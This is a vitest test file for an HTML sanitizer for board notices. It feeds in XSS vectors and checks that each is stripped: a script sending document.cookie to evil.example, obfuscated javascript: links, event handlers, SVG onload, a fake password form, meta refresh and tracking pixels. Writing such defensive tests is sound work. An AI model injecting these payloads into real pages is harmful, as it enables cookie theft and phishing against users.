import { describe, expect, it } from "vitest";
import { REMOTE_IMAGE_LABEL, sanitizeBoardHtml } from "../sanitize-board-html";

// Hostile notice HTML, one vector at a time: none may leave anything that runs, styles the page or loads a resource.
describe("sanitizeBoardHtml", () => {
  it("keeps formatting, headings, lists, tables and own-origin images sized by the page", () => {
    expect(sanitizeBoardHtml("<h2>안내</h2><p><strong>굵게</strong> 글</p><ul><li>하나</li></ul><table><tr><td>칸</td></tr></table>")).toBe(
      "<h2>안내</h2><p><strong>굵게</strong> 글</p><ul><li>하나</li></ul><table><tr><td>칸</td></tr></table>",
    );
    expect(sanitizeBoardHtml('<img src="/images/guide.png" alt="안내" width="9999" style="width:9999px">')).toBe(
      '<img src="/images/guide.png" alt="안내" loading="lazy" />',
    );
  });

  it("drops script tags with their text", () => {
    const out = sanitizeBoardHtml(
      "<p>본문</p><script>document.location='https://evil.example/?c='+document.cookie</script><SCRIPT SRC=//x.js></SCRIPT>",
    );
    expect(out).toBe("<p>본문</p>");
  });

  it("drops on* handlers", () => {
    const out = sanitizeBoardHtml(
      '<p onclick="steal()" onmouseover="x()">글</p><a href="https://a.example" onfocus="x()" autofocus>링크</a>',
    );
    expect(out).not.toMatch(/on(click|mouseover|focus)|autofocus/i);
    expect(out).toContain("<p>글</p>");
  });

  it("drops javascript:, data: and vbscript: links, however they are spelled", () => {
    for (const href of [
      "javascript:alert(1)",
      "JaVaScRiPt:alert(1)",
      " javascript:alert(1)",
      "java&#x09;script:alert(1)",
      "data:text/html,<script>alert(1)</script>",
      "vbscript:x",
    ]) {
      const out = sanitizeBoardHtml(`<a href="${href}">눌러 보기</a>`);
      expect(out, href).not.toMatch(/href/i);
      expect(out).toContain("눌러 보기");
    }
  });

  it("opens kept links outside without an opener", () => {
    expect(sanitizeBoardHtml('<a href="https://www.evsafe.example/guide" target="_self">가이드</a>')).toBe(
      '<a href="https://www.evsafe.example/guide" target="_blank" rel="noopener noreferrer">가이드</a>',
    );
    expect(sanitizeBoardHtml('<a href="tel:1588-0000">전화</a>')).toContain('href="tel:1588-0000"');
  });

  it("drops <style> blocks, style attributes and <link> stylesheets", () => {
    const out = sanitizeBoardHtml(
      '<style>body{display:none}</style><link rel="stylesheet" href="https://x.example/a.css"><p style="position:fixed;inset:0">글</p>',
    );
    expect(out).toBe("<p>글</p>");
  });

  it("drops iframes, objects and embeds with their content", () => {
    const out = sanitizeBoardHtml(
      '<iframe src="https://ads.example/track">광고</iframe><object data="x.swf"></object><embed src="x.swf"><p>글</p>',
    );
    expect(out).toBe("<p>글</p>");
  });

  it("turns remote images (tracking pixels included) into links, loading nothing", () => {
    const out = sanitizeBoardHtml(
      '<img src="https://track.example/p.gif?u=1" width="1" height="1"><img src="https://static.example/w.png" alt="겨울 안내">',
    );
    expect(out).not.toContain("<img");
    expect(out).toContain(`>${REMOTE_IMAGE_LABEL}</a>`);
    expect(out).toContain(`>${REMOTE_IMAGE_LABEL}: 겨울 안내</a>`);
    expect(out).toContain('href="https://track.example/p.gif?u=1"');
    for (const src of [
      "http://insecure.example/b.png",
      "//cdn.example/x.png",
      "data:image/svg+xml,<svg onload=alert(1)>",
      "x",
      "javascript:alert(1)",
    ]) {
      const img = sanitizeBoardHtml(`<img src="${src}" onerror="alert(1)" alt="대체">`);
      expect(img, src).not.toMatch(/<img|onerror|javascript|src=/i);
    }
  });

  it("drops forms and their fields", () => {
    const out = sanitizeBoardHtml(
      '<form action="https://evil.example/login" method="post"><input name="pw" type="password"><button>로그인</button></form><p>글</p>',
    );
    expect(out).toBe("<p>글</p>");
  });

  it("drops SVG and MathML with the scripts inside", () => {
    const out = sanitizeBoardHtml(
      '<svg onload="alert(1)"><script>alert(2)</script><a xlink:href="javascript:alert(3)"><text>x</text></a></svg><math><mi xlink:href="javascript:alert(4)">y</mi></math><p>글</p>',
    );
    expect(out).toBe("<p>글</p>");
  });

  it("drops meta refreshes, base tags and templates", () => {
    const out = sanitizeBoardHtml(
      '<meta http-equiv="refresh" content="0;url=https://evil.example"><base href="https://evil.example/"><template><img src=x onerror=alert(1)></template><p>글</p>',
    );
    expect(out).toBe("<p>글</p>");
  });

  it("keeps markup-like text as text, never as an attribute", () => {
    const out = sanitizeBoardHtml('<p>1 < 2 &amp; <b>굵게</p><img src="x" alt="&quot; onerror=&quot;alert(1)">');
    expect(out).toContain("1 &lt; 2 &amp;");
    // The alt's quote stays inside the text of a span: no tag carries an onerror attribute.
    expect(out).not.toMatch(/<[^>]*onerror/i);
  });
});
